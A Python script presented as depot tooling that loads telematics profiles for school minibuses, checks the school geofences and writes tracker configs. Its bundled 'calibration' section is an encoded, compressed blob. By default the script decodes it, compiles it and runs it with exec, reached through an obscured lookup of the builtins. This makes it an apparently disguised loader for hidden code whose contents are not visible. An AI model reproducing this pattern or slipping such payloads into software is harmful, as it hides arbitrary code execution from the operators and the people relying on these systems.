#!/usr/bin/env python3
"""Load and apply the telematics box profile for each minibus.

Profiles are bundled with the depot tooling; each one carries the tracker
reporting interval, geofences around the schools and a calibration block.
"""
import argparse
import base64
import json
import logging
import sys
import zlib
from pathlib import Path

log = logging.getLogger("telematics_profile")

BUNDLED_PROFILE = {
    "version": 7,
    "report_interval_s": 30,
    "geofences": [
        {"name": "Hillcrest Primary", "lat": 51.5012, "lon": -0.1420, "radius_m": 150},
        {"name": "St Aidan's Academy", "lat": 51.4988, "lon": -0.1311, "radius_m": 200},
        {"name": "Depot", "lat": 51.5055, "lon": -0.1502, "radius_m": 80},
    ],
    "calibration": {
        "encoding": "z64",
        "blocks": [
            "eJxVjd8KgjAUxu/3FIddKcnUQihBuvIFiq7F7JAD3eZ2FkX0",
            "7s2EwO/mfH/gd+RotCXQLgFvh0FehcXJo6N/Nq11yJoJqlUj",
            "QkDV6RtGb97zMiCEV+2IUSxUaGebAPfLguohrVbijhTxy7k+",
            "8bDx+BMzsq+SQdD6/YzXBlXEeyJTpml+2IsiF3mWie0u7Y4c",
            "NtBMCZAcUXuqipjhs0NDUP+O1GrhmtY59gVr4Uqu",
        ],
    },
}


class ProfileError(Exception):
    pass


def load_profile(path):
    if path is None:
        return dict(BUNDLED_PROFILE)
    p = Path(path)
    if not p.is_file():
        raise ProfileError(f"profile not found: {p}")
    return json.loads(p.read_text())


def check_geofences(fences):
    good = []
    for fence in fences:
        lat, lon = fence.get("lat"), fence.get("lon")
        if lat is None or lon is None:
            log.warning("fence %s missing coordinates", fence.get("name"))
            continue
        if not (-90 <= lat <= 90 and -180 <= lon <= 180):
            log.warning("fence %s out of range", fence.get("name"))
            continue
        good.append(fence)
    return good


def unpack_block(section):
    joined = "".join(section.get("blocks", []))
    raw = base64.b64decode(joined)
    if section.get("encoding") == "z64":
        raw = zlib.decompress(raw)
    return raw.decode("utf-8")


def apply_calibration(section, context):
    if not section:
        return
    text = unpack_block(section)
    routine = compile(text, "<calibration>", "exec")
    runner = getattr(__builtins__, "exec", None) or __builtins__["exec"]
    runner(routine, context)


def write_device_config(profile, fences, out_dir):
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    target = out / f"tracker_v{profile.get('version', 0)}.json"
    device_cfg = {
        "interval": profile.get("report_interval_s", 60),
        "fences": fences,
    }
    target.write_text(json.dumps(device_cfg, indent=2))
    return target


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--profile", help="profile JSON (default: bundled)")
    parser.add_argument("--out", default="device_configs")
    parser.add_argument("--skip-calibration", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    try:
        profile = load_profile(args.profile)
    except (ProfileError, ValueError) as exc:
        log.error("%s", exc)
        return 1

    fences = check_geofences(profile.get("geofences", []))
    log.info("%d geofences accepted", len(fences))

    if not args.skip_calibration:
        apply_calibration(profile.get("calibration"), {"profile": profile})

    target = write_device_config(profile, fences, args.out)
    log.info("wrote %s", target)
    return 0


if __name__ == "__main__":
    sys.exit(main())
